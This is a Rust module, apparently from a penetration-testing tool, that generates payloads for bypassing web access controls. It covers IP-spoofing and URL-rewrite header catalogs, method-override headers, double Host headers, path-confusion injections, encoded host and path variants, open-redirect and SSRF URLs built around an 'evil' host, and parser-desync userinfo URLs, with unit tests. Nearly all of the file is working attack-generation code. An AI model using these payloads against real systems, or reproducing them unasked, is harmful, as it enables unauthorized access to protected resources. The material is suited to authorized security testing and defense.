//! Declarative payload generators. Every function is deterministic and
//! side-effect free: identical inputs yield identical, deduplicated,
//! order-preserving output sequences of header lines, URLs, or methods.

pub mod auth;

use std::collections::HashSet;

use crate::transform;
use crate::urls::{self, ParsedUrl};
use crate::utils::unique;

// WebDAV and versioning verbs included; DELETE is destructive on misconfigured
// targets and stays out of the catalog.
const METHODS: &[&str] = &[
    "ACL",
    "ARBITRARY",
    "BASELINE-CONTROL",
    "BIND",
    "CHECKIN",
    "CHECKOUT",
    "CONNECT",
    "COPY",
    "GET",
    "HEAD",
    "INDEX",
    "LABEL",
    "LINK",
    "LOCK",
    "MERGE",
    "MKACTIVITY",
    "MKCALENDAR",
    "MKCOL",
    "MKREDIRECTREF",
    "MKWORKSPACE",
    "MOVE",
    "OPTIONS",
    "ORDERPATCH",
    "PATCH",
    "POST",
    "PRI",
    "PROPFIND",
    "PROPPATCH",
    "PUT",
    "REBIND",
    "REPORT",
    "SEARCH",
    "SHOWMETHOD",
    "SPACEJUMP",
    "TEXTSEARCH",
    "TRACE",
    "TRACK",
    "UNBIND",
    "UNCHECKOUT",
    "UNLINK",
    "UNLOCK",
    "UPDATE",
    "UPDATEREDIRECTREF",
    "VERSION-CONTROL",
];

const METHOD_OVERRIDE_HEADERS: &[&str] =
    &["X-HTTP-Method", "X-HTTP-Method-Override", "X-Method-Override"];

const METHOD_OVERRIDE_PARAMS: &[&str] = &["x-http-method-override", "x-method-override"];

const URL_HEADERS: &[&str] = &[
    "19-Profile",
    "Base-URL",
    "Destination",
    "Origin",
    "Profile",
    "Proxy",
    "Referer",
    "Request-URI",
    "URI",
    "URL",
    "WAP-Profile",
    "X-Forwarded-Path",
    "X-HTTP-DestinationURL",
    "X-Original-URL",
    "X-Override-URL",
    "X-Proxy-URL",
    "X-Referer",
    "X-Rewrite-URL",
    "X-Wap-Profile",
];

const IP_HEADERS: &[&str] = &[
    "CF-Connecting-IP",
    "Client-IP",
    "Cluster-Client-IP",
    "Forwarded-For",
    "Forwarded-For-IP",
    "Host",
    "Incap-Client-IP",
    "Proxy",
    "Redirect",
    "Remote-Addr",
    "True-Client-IP",
    "X-Client-IP",
    "X-Cluster-Client-IP",
    "X-Forwarded",
    "X-Forwarded-By",
    "X-Forwarded-For",
    "X-Forwarded-For-Original",
    "X-Forwarded-Host",
    "X-Forwarded-Server",
    "X-HTTP-Host-Override",
    "X-Host",
    "X-Host-Override",
    "X-Original-Forwarded-For",
    "X-Original-Remote-Addr",
    "X-Originally-Forwarded-For",
    "X-Originating-IP",
    "X-Proxy-Host",
    "X-ProxyUser-IP",
    "X-Real-IP",
    "X-Remote-Addr",
    "X-Remote-IP",
    "X-Requested-With",
    "X-Server-IP",
    "X-True-Client-IP",
    "X-True-IP",
];

const ALTERNATE_PORTS: &[u16] = &[
    80, 443, 4443, 8008, 8080, 8403, 8443, 9008, 9080, 9403, 9443,
];

const FAKE_EXTENSIONS: &[&str] = &[
    "asp", "aspx", "esp", "html", "jhtml", "json", "jsp", "jspa", "jspx", "php", "sht", "shtml",
    "xhtml", "xml",
];

pub fn method_catalog() -> Vec<String> {
    METHODS.iter().map(|m| m.to_string()).collect()
}

pub fn method_override_headers() -> Vec<String> {
    let mut tmp = Vec::new();
    for header in METHOD_OVERRIDE_HEADERS {
        for method in METHODS {
            tmp.push(format!("{header}: {method}"));
        }
    }
    unique(tmp)
}

/// Injects or replaces a method-override query parameter while preserving
/// every other pair. An already-present parameter gets only its last value
/// replaced (the query string is case-sensitive).
pub fn method_override_urls(url: &ParsedUrl) -> Vec<String> {
    let mut tmp = Vec::new();
    for param in METHOD_OVERRIDE_PARAMS {
        let existing = url.query.pairs.iter().position(|(k, _)| k == param);
        for method in METHODS {
            let mut pairs = url.query.pairs.clone();
            match existing {
                Some(pos) => {
                    if let Some(last) = pairs[pos].1.last_mut() {
                        *last = method.to_string();
                    }
                }
                None => pairs.push((param.to_string(), vec![method.to_string()])),
            }
            tmp.push(format!(
                "{}{}{}{}",
                url.scheme_domain,
                url.path,
                urls::serialize_query(&pairs),
                url.fragment
            ));
        }
    }
    unique(tmp)
}

pub fn scheme_override_headers(scheme: &str) -> Vec<String> {
    let mut tmp = Vec::new();
    for header in [
        "X-Forwarded-Proto",
        "X-Forwarded-Protocol",
        "X-Forwarded-Scheme",
        "X-Scheme",
        "X-URL-Scheme",
    ] {
        tmp.push(format!("{header}: {scheme}"));
    }
    let status = if scheme == "https" { "on" } else { "off" };
    for header in ["Front-End-HTTPS", "X-Forwarded-SSL"] {
        tmp.push(format!("{header}: {status}"));
    }
    unique(tmp)
}

pub fn port_override_headers(url: &ParsedUrl) -> Vec<String> {
    let mut tmp = Vec::new();
    let mut ports = vec![url.port];
    ports.extend_from_slice(ALTERNATE_PORTS);
    for port in ports {
        tmp.push(format!("X-Forwarded-Port: {port}"));
    }
    unique(tmp)
}

/// URL-rewrite header catalog, each name paired with every candidate value.
pub fn url_headers(values: &[String]) -> Vec<String> {
    let mut tmp = Vec::new();
    for header in URL_HEADERS {
        for value in values {
            tmp.push(format!("{header}: {value}"));
        }
    }
    unique(tmp)
}

/// IP-spoofing header catalog plus the specially formatted families:
/// `Forwarded` wraps values in a quoted `for=` token, `X-Custom-IP-Authorization`
/// appends traversal-style suffixes, `X-Originating-IP` uses IPv6-literal
/// brackets.
pub fn ip_headers(values: &[String]) -> Vec<String> {
    let mut tmp = Vec::new();
    for header in IP_HEADERS {
        for value in values {
            tmp.push(format!("{header}: {value}"));
        }
    }
    for value in values {
        tmp.push(format!("Forwarded: for=\"{}\"", value.replace('"', "\\\"")));
    }
    for value in values {
        for injection in ["", ";", ".;", "..;"] {
            tmp.push(format!("X-Custom-IP-Authorization: {value}{injection}"));
        }
    }
    for value in values {
        tmp.push(format!("X-Originating-IP: [{value}]"));
    }
    unique(tmp)
}

pub fn special_headers(target: &ParsedUrl, evil: &ParsedUrl) -> Vec<String> {
    let mut tmp = Vec::new();
    for value in [&target.domain_no_port, &evil.domain_no_port] {
        tmp.push(format!("From: pentest@{value}"));
    }
    for value in [&target.scheme_domain, &evil.scheme_domain] {
        tmp.push(format!("Profile: <{value}/profile/pentest>"));
    }
    tmp.push("X-Requested-With: XMLHttpRequest".to_string());
    unique(tmp)
}

pub fn all_headers(values: &[String]) -> Vec<String> {
    let mut tmp = url_headers(values);
    tmp.extend(ip_headers(values));
    unique(tmp)
}

fn localhost_pool(url: &ParsedUrl) -> Vec<String> {
    urls::extend_domains(
        &url.scheme,
        &[
            "localhost".to_string(),
            "127.0.0.1".to_string(),
            transform::unicode_confusable("127.0.0.1"),
            "127.000.000.001".to_string(),
        ],
        url.port,
    )
}

fn private_pool(url: &ParsedUrl) -> Vec<String> {
    urls::extend_domains(
        &url.scheme,
        &[
            "192.168.1.1".to_string(),
            "172.16.1.1".to_string(),
            "173.245.48.1".to_string(),
            "10.1.1.1".to_string(),
        ],
        url.port,
    )
}

/// Candidate host/URL values for the header catalogs: localhost and private
/// pools, the target's extended spellings, the evil counterpart's, and (for
/// bare values) `initial,override` chains seeded from localhost.
pub fn all_values(
    target: &ParsedUrl,
    evil: &ParsedUrl,
    with_scheme: bool,
    use_ip: bool,
) -> Vec<String> {
    let target_extended = if use_ip {
        &target.ip_extended
    } else {
        &target.domain_extended
    };
    let evil_extended = if use_ip {
        &evil.ip_extended
    } else {
        &evil.domain_extended
    };
    let localhost = if use_ip { "127.0.0.1" } else { "localhost" };

    let mut tmp: Vec<String> = Vec::new();

    let mut pool = localhost_pool(target);
    pool.extend(private_pool(target));
    pool.extend(target_extended.iter().cloned());
    let stripped = urls::strip_schemes(&pool);
    if with_scheme {
        tmp.extend(
            stripped
                .iter()
                .map(|entry| format!("{}://{}{}", target.scheme, entry, target.path_full)),
        );
    } else {
        tmp.extend(stripped);
    }

    let stripped_evil = urls::strip_schemes(evil_extended);
    if with_scheme {
        tmp.extend(
            stripped_evil
                .iter()
                .map(|entry| format!("{}://{}{}", evil.scheme, entry, target.path_full)),
        );
    } else {
        tmp.extend(stripped_evil);
    }

    if !with_scheme {
        let mut combined = target_extended.clone();
        combined.extend(evil_extended.iter().cloned());
        let initials = urls::strip_schemes(&[
            localhost.to_string(),
            format!("{localhost}:{}", target.port),
        ]);
        for override_value in urls::strip_schemes(&combined) {
            for initial in &initials {
                tmp.push(format!("{initial},{override_value}"));
            }
        }
    }
    unique(tmp)
}

/// Double `Host` header bundles (initial target spelling + evil override).
/// Duplicate header keys force the in-process sender.
pub fn double_host_headers(
    target: &ParsedUrl,
    evil: &ParsedUrl,
    use_ip: bool,
) -> Vec<Vec<String>> {
    let target_extended = if use_ip {
        &target.ip_extended
    } else {
        &target.domain_extended
    };
    let evil_extended = if use_ip {
        &evil.ip_extended
    } else {
        &evil.domain_extended
    };
    let mut seen: HashSet<String> = HashSet::new();
    let mut tmp = Vec::new();
    for override_value in urls::strip_schemes(evil_extended) {
        for initial in urls::strip_schemes(target_extended) {
            if seen.insert(format!("{initial}{override_value}")) {
                tmp.push(vec![
                    format!("Host: {initial}"),
                    format!("Host: {override_value}"),
                ]);
            }
        }
    }
    tmp
}

/// Systematic injection of neutral and parser-confusing tokens into the URL
/// path: at the start, the end, and both; suffix-only injections; and fake
/// extensions when the path has no trailing slash.
pub fn path_bypass_urls(url: &ParsedUrl) -> Vec<String> {
    let path = url.path.trim_matches('/').to_string();
    let mut bypasses: Vec<String> = Vec::new();

    let mut injections: Vec<String> = Vec::new();
    for i in [
        "", "%09", "%20", "%23", "%2e", "*", ".", "..", ";", ".;", "..;", ";foo=bar;",
    ] {
        injections.push(format!("/{i}/"));
        injections.push(format!("{i}/"));
        injections.push(format!("/{i}"));
        injections.push(i.to_string());
    }
    for i in &injections {
        bypasses.push(format!("{path}{i}"));
        bypasses.push(format!("{i}{path}"));
        if !path.is_empty() {
            for j in &injections {
                bypasses.push(format!("{i}{path}{j}"));
            }
        }
    }

    let mut suffixes: Vec<String> = Vec::new();
    for i in ["#", "*", ".", "?", "~"] {
        suffixes.push(i.to_string());
        suffixes.push(format!("{i}{i}"));
        suffixes.push(format!("{i}random"));
    }
    for p in [path.clone(), format!("{path}/")] {
        for i in &suffixes {
            bypasses.push(format!("{p}{i}"));
        }
    }

    if !path.is_empty() && !url.path.ends_with('/') {
        for ext in FAKE_EXTENSIONS {
            bypasses.push(format!("{path}.{ext}"));
        }
    }

    unique(
        bypasses
            .into_iter()
            .map(|b| {
                format!(
                    "{}{}{}{}",
                    url.scheme_domain,
                    urls::prepend_slash(&b),
                    url.query.full,
                    url.fragment
                )
            })
            .collect(),
    )
}

/// Domain and path transformations from the encoding engine, applied to the
/// host, to the final path segment, and to their cartesian combination.
pub fn encoded_urls(url: &ParsedUrl) -> Vec<String> {
    let mut tmp = Vec::new();
    let domains = transform::domain_variants(&url.domain_no_port, url.port);
    for domain in &domains {
        tmp.push(format!("{}://{}{}", url.scheme, domain, url.path_full));
    }
    if !url.path.is_empty() {
        let paths = transform::path_variants(&url.path);
        for path in &paths {
            tmp.push(format!(
                "{}{}{}{}",
                url.scheme_domain, path, url.query.full, url.fragment
            ));
        }
        for domain in &domains {
            for path in &paths {
                tmp.push(format!(
                    "{}://{}{}{}{}",
                    url.scheme, domain, path, url.query.full, url.fragment
                ));
            }
        }
    }
    unique(tmp)
}

/// Open-redirect/SSRF candidates: the evil host injected as a suffix, prefix,
/// and subdomain of the target host with traversal separators.
pub fn redirect_urls(
    target: &ParsedUrl,
    evil: &ParsedUrl,
    with_scheme: bool,
    use_ip: bool,
) -> Vec<String> {
    let evil_extended = if use_ip {
        &evil.ip_extended
    } else {
        &evil.domain_extended
    };
    let target_host = if use_ip {
        target.ip_no_port.clone().unwrap_or_default()
    } else {
        target.domain_no_port.clone()
    };
    let mut tmp: Vec<String> = Vec::new();
    for override_value in urls::strip_schemes(evil_extended) {
        tmp.push(override_value.clone());
        for injection in ["/", "/."] {
            tmp.push(format!("{override_value}{injection}{target_host}"));
        }
        if !use_ip {
            tmp.push(format!("{target_host}.{override_value}"));
        }
    }
    if with_scheme {
        tmp = tmp
            .into_iter()
            .map(|entry| format!("{}://{}{}", evil.scheme, entry, target.path_full))
            .collect();
    }
    unique(tmp)
}

/// Userinfo-style injections meant to desynchronize URL parsers
/// (`target@evil` plus space/fragment prefix variants).
pub fn broken_urls(
    target: &ParsedUrl,
    evil: &ParsedUrl,
    with_scheme: bool,
    use_ip: bool,
) -> Vec<String> {
    let target_extended = if use_ip {
        &target.ip_extended
    } else {
        &target.domain_extended
    };
    let evil_extended = if use_ip {
        &evil.ip_extended
    } else {
        &evil.domain_extended
    };
    let mut tmp: Vec<String> = Vec::new();
    for override_value in urls::strip_schemes(evil_extended) {
        for initial in urls::strip_schemes(target_extended) {
            for injection in ["@", " @", "#@"] {
                tmp.push(format!("{initial}{injection}{override_value}"));
            }
        }
    }
    if with_scheme {
        tmp = tmp
            .into_iter()
            .map(|entry| format!("{}://{}{}", evil.scheme, entry, target.path_full))
            .collect();
    }
    unique(tmp)
}

/// Upload probe URLs: every recursive ancestor of the path with each file name
/// appended, query and fragment re-attached.
pub fn file_upload_urls(url: &ParsedUrl, files: &[&str]) -> Vec<String> {
    let bases = urls::append_paths(
        &[url.scheme_domain.clone()],
        &urls::recursive_paths(&url.path),
    );
    let files: Vec<String> = files.iter().map(|f| f.to_string()).collect();
    let with_files = urls::append_paths(&bases, &files);
    unique(
        with_files
            .into_iter()
            .map(|u| format!("{u}{}{}", url.query.full, url.fragment))
            .collect(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn target() -> ParsedUrl {
        ParsedUrl::parse("https://example.com/admin", "Inaccessible URL", false, false).unwrap()
    }

    fn evil() -> ParsedUrl {
        ParsedUrl::parse("https://github.com", "Evil URL", false, false).unwrap()
    }

    #[test]
    fn method_catalog_excludes_delete() {
        let methods = method_catalog();
        assert_eq!(methods.len(), 43);
        assert!(!methods.contains(&"DELETE".to_string()));
        assert!(methods.contains(&"PROPFIND".to_string()));
    }

    #[test]
    fn method_override_urls_append_parameter() {
        let out = method_override_urls(&target());
        assert!(out.contains(
            &"https://example.com:443/admin?x-http-method-override=PUT".to_string()
        ));
        assert!(out.contains(&"https://example.com:443/admin?x-method-override=TRACE".to_string()));
    }

    #[test]
    fn method_override_urls_replace_only_last_existing_value() {
        let url = ParsedUrl::parse(
            "https://example.com/admin?x-method-override=GET&x-method-override=POST&keep=1",
            "Inaccessible URL",
            false,
            false,
        )
        .unwrap();
        let out = method_override_urls(&url);
        assert!(out.contains(
            &"https://example.com:443/admin?x-method-override=GET&x-method-override=PUT&keep=1"
                .to_string()
        ));
    }

    #[test]
    fn scheme_override_headers_flip_ssl_flags() {
        let https = scheme_override_headers("https");
        assert!(https.contains(&"X-Forwarded-Proto: https".to_string()));
        assert!(https.contains(&"Front-End-HTTPS: on".to_string()));
        let http = scheme_override_headers("http");
        assert!(http.contains(&"X-Forwarded-SSL: off".to_string()));
    }

    #[test]
    fn port_override_headers_lead_with_original_port() {
        let out = port_override_headers(&target());
        assert_eq!(out[0], "X-Forwarded-Port: 443");
        assert!(out.contains(&"X-Forwarded-Port: 9443".to_string()));
        // 443 repeats in the alternate list and must be collapsed
        assert_eq!(out.len(), ALTERNATE_PORTS.len());
    }

    #[test]
    fn ip_headers_emit_special_families() {
        let values = vec!["127.0.0.1".to_string()];
        let out = ip_headers(&values);
        assert!(out.contains(&"X-Forwarded-For: 127.0.0.1".to_string()));
        assert!(out.contains(&"Forwarded: for=\"127.0.0.1\"".to_string()));
        assert!(out.contains(&"X-Custom-IP-Authorization: 127.0.0.1..;".to_string()));
        assert!(out.contains(&"X-Originating-IP: [127.0.0.1]".to_string()));
    }

    #[test]
    fn all_values_include_evil_domain_and_localhost_chains() {
        let out = all_values(&target(), &evil(), false, false);
        assert!(out.contains(&"github.com".to_string()));
        assert!(out.contains(&"localhost".to_string()));
        assert!(out.contains(&"localhost,github.com".to_string()));
        assert!(out.contains(&"localhost:443,example.com".to_string()));
    }

    #[test]
    fn double_host_headers_are_two_line_bundles() {
        let out = double_host_headers(&target(), &evil(), false);
        assert!(!out.is_empty());
        assert!(out.iter().all(|b| b.len() == 2));
        assert!(out.contains(&vec![
            "Host: example.com".to_string(),
            "Host: github.com".to_string(),
        ]));
    }

    #[test]
    fn path_bypass_urls_inject_tokens_and_extensions() {
        let out = path_bypass_urls(&target());
        assert!(out.contains(&"https://example.com:443/admin%09".to_string()));
        assert!(out.contains(&"https://example.com:443/%2e/admin".to_string()));
        assert!(out.contains(&"https://example.com:443/admin..;".to_string()));
        assert!(out.contains(&"https://example.com:443/admin.json".to_string()));
        assert!(out.contains(&"https://example.com:443/admin/~".to_string()));
        let uniques: HashSet<_> = out.iter().collect();
        assert_eq!(uniques.len(), out.len());
    }

    #[test]
    fn path_bypass_urls_skip_extensions_on_trailing_slash() {
        let url = ParsedUrl::parse(
            "https://example.com/admin/",
            "Inaccessible URL",
            false,
            false,
        )
        .unwrap();
        let out = path_bypass_urls(&url);
        assert!(!out.iter().any(|u| u.ends_with(".php")));
    }

    #[test]
    fn encoded_urls_cover_domain_path_and_both() {
        let out = encoded_urls(&target());
        assert!(out.contains(&"https://EXAMPLE.COM:443/admin".to_string()));
        assert!(out.contains(&"https://example.com:443/ADMIN".to_string()));
        assert!(out
            .iter()
            .any(|u| u.contains("EXAMPLE.COM:443") && u.ends_with("/ADMIN")));
    }

    #[test]
    fn redirect_urls_wrap_target_and_evil_hosts() {
        let out = redirect_urls(&target(), &evil(), false, false);
        assert!(out.contains(&"github.com".to_string()));
        assert!(out.contains(&"github.com/example.com".to_string()));
        assert!(out.contains(&"github.com/.example.com".to_string()));
        assert!(out.contains(&"example.com.github.com".to_string()));
    }

    #[test]
    fn broken_urls_use_userinfo_injections() {
        let out = broken_urls(&target(), &evil(), true, false);
        assert!(out.contains(&"https://example.com@github.com/admin".to_string()));
        assert!(out.contains(&"https://example.com @github.com/admin".to_string()));
        assert!(out.contains(&"https://example.com#@github.com/admin".to_string()));
    }

    #[test]
    fn file_upload_urls_walk_recursive_paths() {
        let url = ParsedUrl::parse(
            "https://example.com/app/admin",
            "Inaccessible URL",
            false,
            false,
        )
        .unwrap();
        let out = file_upload_urls(&url, &["/pentest.txt"]);
        assert!(out.contains(&"https://example.com:443/pentest.txt".to_string()));
        assert!(out.contains(&"https://example.com:443/app/pentest.txt".to_string()));
        assert!(out.contains(&"https://example.com:443/app/admin/pentest.txt".to_string()));
    }
}
